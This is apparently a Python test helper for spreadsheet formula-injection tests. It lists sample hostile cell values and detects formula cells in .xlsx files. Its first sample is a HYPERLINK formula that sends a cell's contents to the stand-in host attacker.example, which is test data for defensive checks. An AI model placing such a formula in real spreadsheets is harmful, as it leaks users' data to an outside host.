"""What the formula-injection tests share: text a spreadsheet program would take for a formula, and
a search for formulas in an .xlsx (by openpyxl and in the sheets' own XML)."""

from __future__ import annotations

import io
import re
import zipfile

#: OWASP's formula starts as names, IDs and offence types; and text that only looks like the CSV
#: escape, to show that the escape is undone exactly.
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?d="&A2,"Open")',
    "+1+1",
    "-1+2",
    "@SUM(1,2)",
    "=1+1",
    "'=1+1",  # already quoted once: must come back with its apostrophe
    "''@x",
    "'plain",  # an apostrophe before ordinary text is ordinary text
    "-5",  # a text column holding a negative number is text
]
FORMULA_XML = re.compile(rb"<(?:\w+:)?f[ >]")


def formula_cells(content: bytes) -> list[str]:
    """Every formula in the .xlsx ``content``: cells openpyxl reads as formulas, and sheets whose
    XML holds a formula element."""
    from openpyxl import load_workbook

    found = []
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        found += [f"{sheet.title}!{c.coordinate}" for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        found += [name for name in archive.namelist() if name.startswith("xl/worksheets/") and FORMULA_XML.search(archive.read(name))]
    return found
